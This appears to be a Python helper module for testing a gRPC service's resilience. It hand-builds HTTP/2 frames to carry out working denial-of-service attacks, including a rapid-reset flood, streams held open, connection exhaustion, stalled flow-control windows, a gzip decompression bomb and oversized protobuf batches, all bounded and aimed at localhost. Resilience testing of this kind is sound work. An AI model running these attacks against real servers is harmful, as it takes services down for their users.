"""The tools of an attacker who reaches a port: raw sockets, and HTTP/2 written by hand.

Frames are those of RFC 9113, header blocks those of RFC 7541 without its dynamic table and Huffman codes. Every attack is
bounded in count and time and talks to 127.0.0.1 alone.
"""

import contextlib
import gzip
import select
import socket
import struct
import time
import zlib

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, END_HEADERS, ACK = 1, 4, 1
CANCEL = 8
WINDOW_BYTES = 65_535  # A stream and a connection may send this before they are given more.
FRAME_BYTES = 16_384
SERVICE = "/bloomring.v1.BloomringService/"


def address_of(text):
    host, _, port = text.rpartition(":")
    return host, int(port)


def connect(address, bound_s=5, source=None):
    """source: the address of this machine from which it comes."""
    return socket.create_connection(address_of(address), timeout=bound_s, source_address=source and (source, 0))


@contextlib.contextmanager
def connections(address, count):
    """So many connections that say nothing; fewer where the server takes no more."""
    held = []
    try:
        for _ in range(count):
            with contextlib.suppress(OSError):
                held.append(connect(address, 1))
        yield held
    finally:
        for one in held:
            one.close()


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes((kind, flags)) + struct.pack(">I", stream) + payload


def integer(value, bits):
    """An integer of a header block, in the low bits of its first byte."""
    most = (1 << bits) - 1
    if value < most:
        return bytes((value,))
    out = bytearray((most,))
    value -= most
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def header(name, value):
    """A literal that is not indexed."""
    words = [text.encode() if isinstance(text, str) else text for text in (name, value)]
    return b"\x00" + b"".join(integer(len(word), 7) + word for word in words)


def call_headers(method, more=()):
    """method: of our service, or a path with another one's name."""
    fields = [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", method if method.startswith("/") else SERVICE + method),
        (":authority", "localhost"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
        *more,
    ]
    return b"".join(header(*field) for field in fields)


def message(payload, compressed=False):
    return bytes((compressed,)) + struct.pack(">I", len(payload)) + payload


class Http2:
    """A client's end of a connection, after both have said their settings. window: of its streams; a client that names
    one never lets the server send more."""

    def __init__(self, address, window=None, source=None):
        self.socket = connect(address, 10, source)
        settings = b"" if window is None else struct.pack(">HI", 4, window)
        self.socket.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
        self._stream = -1
        self._received = b""
        self._reads = window is None
        self.closed = False
        self.credit = {0: WINDOW_BYTES}
        self.initial = WINDOW_BYTES

    def __enter__(self):
        return self

    def __exit__(self, *_):
        self.socket.close()

    def next_stream(self):
        self._stream += 2
        self.credit[self._stream] = self.initial
        return self._stream

    def send(self, data):
        """False when the server has closed the connection."""
        try:
            self.socket.sendall(data)
        except OSError:
            self.closed = True
        return not self.closed

    def frames(self, bound_s):
        """(kind, flags, stream, payload) of what has come, for so long at most; ends early when the server closes."""
        end = time.monotonic() + bound_s
        while not self.closed:
            while len(self._received) >= 9:
                size = int.from_bytes(self._received[:3], "big")
                if len(self._received) < 9 + size:
                    break
                kind, flags = self._received[3], self._received[4]
                stream = int.from_bytes(self._received[5:9], "big")
                payload = self._received[9 : 9 + size]
                self._received = self._received[9 + size :]
                self._note(kind, flags, stream, payload)
                yield kind, flags, stream, payload
            left = end - time.monotonic()
            if left <= 0 or not select.select([self.socket], [], [], left)[0]:
                return
            try:
                data = self.socket.recv(65536)
            except OSError:
                data = b""
            self.closed = not data
            self._received += data

    def _note(self, kind, flags, stream, payload):
        if kind == SETTINGS and not flags & ACK:
            self.send(frame(SETTINGS, ACK, 0))
            for i in range(0, len(payload), 6):
                name, value = struct.unpack(">HI", payload[i : i + 6])
                if name == 4:
                    for open_stream in self.credit:
                        if open_stream:
                            self.credit[open_stream] += value - self.initial
                    self.initial = value
        if kind == DATA and payload and self._reads:
            for whose in (0,) if flags & END_STREAM else (0, stream):
                self.send(frame(WINDOW_UPDATE, 0, whose, struct.pack(">I", len(payload))))
        if kind == PING and not flags & ACK:
            self.send(frame(PING, ACK, 0, payload))
        if kind == WINDOW_UPDATE:
            self.credit[stream] = self.credit.get(stream, 0) + int.from_bytes(payload, "big")

    def settle(self, bound_s=5):
        """Until the server's settings have come."""
        for kind, *_ in self.frames(bound_s):
            if kind == SETTINGS:
                return

    def begin(self, method, more=()):
        stream = self.next_stream()
        self.send(frame(HEADERS, END_HEADERS, stream, call_headers(method, more)))
        return stream

    def send_body(self, stream, body, bound_s=30):
        """All of it, as fast as the server's windows allow. False when the server would not take it."""
        end = time.monotonic() + bound_s
        at = 0
        while at < len(body):
            room = min(self.credit[0], self.credit.get(stream, 0), FRAME_BYTES, len(body) - at)
            if room <= 0:
                for kind, _, on, _ in self.frames(max(0.0, min(1.0, end - time.monotonic()))):
                    if kind == GOAWAY or (kind == RST_STREAM and on == stream):
                        return False
                    if min(self.credit[0], self.credit.get(stream, 0)) > 0:
                        break
                if self.closed or time.monotonic() >= end:
                    return False
                continue
            last = at + room == len(body)
            if not self.send(frame(DATA, END_STREAM if last else 0, stream, body[at : at + room])):
                return False
            self.credit[0] -= room
            self.credit[stream] -= room
            at += room
        return True

    def outcome(self, stream, bound_s=30):
        """The end of the stream: "answered" (its last headers came), "reset", "goaway", "closed" or "nothing"."""
        for kind, flags, on, _ in self.frames(bound_s):
            if kind == HEADERS and on == stream and flags & END_STREAM:
                return "answered"
            if kind == RST_STREAM and on == stream:
                return "reset"
            if kind == GOAWAY:
                return "goaway"
        return "closed" if self.closed else "nothing"

    def call(self, method, payload, more=(), compressed=False, bound_s=30):
        stream = self.begin(method, more)
        self.send_body(stream, message(payload, compressed), bound_s)
        return self.outcome(stream, bound_s)


def reset_flood(address, count):
    """Calls that are taken back as soon as they are made. The number that the server let through."""
    with Http2(address) as client:
        client.settle()
        for made in range(count):
            stream = client.next_stream()
            begun = frame(HEADERS, END_HEADERS, stream, call_headers("Filter"))
            if not client.send(begun + frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))):
                return made
        for _ in client.frames(1):
            pass
        return count


def open_streams(address, count):
    """Begins calls and never ends them. (the client, how many it could begin before it was closed)"""
    client = Http2(address)
    client.settle()
    for begun in range(count):
        if not client.send(frame(HEADERS, END_HEADERS, client.next_stream(), call_headers("Filter"))):
            return client, begun
    return client, count


def silent_calls(client, count, method):
    """Begins calls, in one piece, and sends no message of them. False when the server has closed the connection."""
    headers = call_headers(method)
    return client.send(b"".join(frame(HEADERS, END_HEADERS, client.next_stream(), headers) for _ in range(count)))


def field(number, content):
    """A field of protobuf with bytes."""
    return varint(number << 3 | 2) + varint(len(content)) + content


def varint(value):
    out = bytearray()
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out) + bytes((value,))


def question(user, ids):
    """A Filter about so many ids of eight digits."""
    packed = field(1, b"".join(b"%08d" % one for one in range(ids))) + field(2, bytes([8]) * ids)
    return field(1, user.encode()) + field(3, field(3, packed))


def batch(users, ids):
    """A FilterBatch about these users, with so many ids each."""
    return b"".join(field(1, question(user, ids)) for user in users)


def empty_requests(size):
    """The largest FilterBatch of empty requests in so many bytes: each takes two (field 1, of no bytes)."""
    return b"\x0a\x00" * (size // 2)


def gzip_bomb(inflated):
    """Zeros that inflate to so many bytes, as one gzip member."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    chunk = bytes(1 << 20)
    return b"".join(packer.compress(chunk) for _ in range(inflated >> 20)) + packer.flush()


def small_gzip(payload):
    return gzip.compress(payload)
